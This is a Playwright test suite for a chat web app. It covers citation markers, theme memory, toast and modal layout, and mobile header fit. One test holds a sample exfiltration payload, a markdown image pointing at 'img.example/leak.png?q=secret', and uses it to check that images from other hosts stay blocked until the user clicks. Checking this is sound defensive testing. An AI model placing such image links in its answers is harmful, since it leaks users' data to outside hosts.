import { expect, test } from '@playwright/test';
import type { Locator, Page } from '@playwright/test';
import { lastRow, login, send, startConversation, useEnglish } from './helpers';

/** Whether two boxes share any area. */
function overlaps(
  a: { x: number; y: number; width: number; height: number },
  b: { x: number; y: number; width: number; height: number },
): boolean {
  return a.x < b.x + b.width && b.x < a.x + a.width && a.y < b.y + b.height && b.y < a.y + a.height;
}

async function box(locator: Locator) {
  const found = await locator.boundingBox();
  expect(found).not.toBeNull();
  return found!;
}

test('browsing answers show numbered references without the provider markers', async ({ page }) => {
  await useEnglish(page);
  await login(page, '/login?redirect=/conversation');
  await startConversation(page, 'OpenAI Web', /Browsing/);
  await send(page, '#browse tide tables');
  const answer = lastRow(page);
  await expect(answer.locator('.cc-citation-link').first()).toBeVisible({ timeout: 20_000 });
  await expect(page.getByTestId('send-button')).toBeVisible({ timeout: 20_000 });
  await expect(answer.locator('.cc-citation-link')).toHaveText(['[1]', '[2]']);
  // The answer itself (the browsing steps keep the tool's raw output under their collapsed "Details").
  const text = answer.locator('.cc-markdown');
  await expect(text).toContainText('The overview explains its main ideas[1]. More practical details');
  await expect(text).not.toContainText('【');
  await expect(text).not.toContainText('†');
});

/** A 1×1 PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

test('an image from another host in an answer loads only when its placeholder is clicked', async ({
  page,
}) => {
  // Every request the browser makes to the other host is recorded (and answered here, nothing leaves the machine).
  const requested: string[] = [];
  await page.route('https://img.example/**', async (route) => {
    requested.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
  });
  await useEnglish(page);
  await login(page, '/login?redirect=/conversation');
  await startConversation(page, 'OpenAI API', /^GPT-3\.5/);
  // The emulated model echoes the question: its answer carries the image.
  await send(page, '![pixel](https://img.example/leak.png?q=secret)');
  await expect(page.getByTestId('send-button')).toBeVisible({ timeout: 20_000 });
  const answer = lastRow(page);
  const placeholder = answer.getByRole('button', { name: 'Image from img.example: click to load' });
  await expect(placeholder).toBeVisible({ timeout: 20_000 });
  await expect(answer.locator('img[src*="img.example"]')).toHaveCount(0);
  expect(requested).toEqual([]);

  // Keyboard: focus the placeholder and press Enter.
  await placeholder.focus();
  await page.keyboard.press('Enter');
  const image = answer.locator('img[src="https://img.example/leak.png?q=secret"]');
  await expect(image).toBeVisible();
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
  expect(requested).toEqual(['https://img.example/leak.png?q=secret']);
});

test('the theme offers light, dark and follow the device, and each is remembered', async ({ page }) => {
  await page.emulateMedia({ colorScheme: 'light' });
  await useEnglish(page);
  await page.goto('/home');
  const html = page.locator('html');
  const choose = async (name: string) => {
    await page.getByTestId('theme-toggle').click();
    await page.getByRole('menuitemradio', { name }).click();
  };
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'light');

  await choose('Dark');
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'dark');
  await page.reload();
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'dark');
  await page.getByTestId('theme-toggle').click();
  await expect(page.getByRole('menuitemradio', { name: 'Dark' })).toHaveAttribute('aria-checked', 'true');
  await page.keyboard.press('Escape');

  await choose('Light');
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'light');
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'light');

  // Back to following the device, after having chosen: the device's scheme applies, and changes with it.
  await choose('Follow device');
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'dark');
  await page.emulateMedia({ colorScheme: 'light' });
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'light');
  await page.reload();
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect(html).toHaveAttribute('data-mantine-color-scheme', 'dark');
  await page.getByTestId('theme-toggle').click();
  await expect(page.getByRole('menuitemradio', { name: 'Follow device' })).toHaveAttribute(
    'aria-checked',
    'true',
  );
});

/**
 * Opens the reset password dialog and submits a password while the server cannot be reached (a refusal is said in
 * the dialog, not in a toast): a toast while it stays open.
 */
async function toastsOverModal(page: Page) {
  await page.route('**/api/user/me', (route) =>
    route.request().method() === 'PATCH'
      ? route.fulfill({ status: 502, contentType: 'text/html', body: '<h1>Bad gateway</h1>' })
      : route.fallback(),
  );
  await page.getByTestId('user-menu').click();
  await page.getByRole('menuitem', { name: 'Reset password' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('New password').fill('abc');
  await dialog.getByRole('button', { name: 'Confirm' }).click();
  const toasts = page.locator('.cc-toasts .mantine-Notification-root');
  await expect(toasts.filter({ hasText: 'Password reset failed' })).toBeVisible();
  await expect(dialog).toBeVisible();
  // Measure once the toasts and the dialog have stopped moving (entry transitions).
  let previous = '';
  await expect
    .poll(async () => {
      const boxes = await Promise.all(
        [...(await toasts.all()), page.locator('.mantine-Modal-content')].map((l) => l.boundingBox()),
      );
      const current = JSON.stringify(boxes);
      const settled = current === previous;
      previous = current;
      return settled;
    })
    .toBe(true);
  const content = await box(page.locator('.mantine-Modal-content'));
  expect(await toasts.count()).toBeGreaterThan(0);
  for (const toast of await toasts.all()) expect(overlaps(await box(toast), content)).toBe(false);
  // The title and the input stay in view and can be used.
  await expect(dialog.getByRole('heading', { name: 'Reset password' })).toBeInViewport();
  await dialog.getByLabel('New password').fill('long-enough-123');
}

test('toasts never cover a modal (desktop)', async ({ page }) => {
  await useEnglish(page);
  await login(page, '/login?redirect=/conversation');
  await toastsOverModal(page);
});

test.describe('in a window too short for the dialog and the toasts', () => {
  test.use({ viewport: { width: 800, height: 330 } });

  test('toasts never cover a modal: the modal scrolls inside the room left', async ({ page }) => {
    await useEnglish(page);
    await login(page, '/login?redirect=/conversation');
    await toastsOverModal(page);
  });
});

test.describe('on a 390 px phone', () => {
  test.use({ viewport: { width: 390, height: 844 } });

  test('toasts never cover a modal', async ({ page }) => {
    await useEnglish(page);
    await login(page, '/login?redirect=/conversation');
    await toastsOverModal(page);
  });

  test('the header keeps the product name, version and greeting, all within the screen', async ({ page }) => {
    await useEnglish(page);
    await login(page, '/login?redirect=/conversation');
    const header = page.locator('header');
    for (const id of ['app-name', 'app-version', 'greeting', 'theme-toggle', 'language-menu', 'user-menu']) {
      const item = header.getByTestId(id);
      await expect(item).toBeVisible();
      const { x, width } = await box(item);
      expect([id, x >= 0 && x + width <= 390]).toEqual([id, true]);
    }
    await expect(header.getByTestId('app-name')).toHaveText('Chat Commons');
    await expect(header.getByTestId('greeting')).toHaveText('Hi, admin');
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    // The icon-only user menu still says what it is.
    await expect(header.getByTestId('user-menu')).toHaveAccessibleName('Account menu of admin');
  });
});
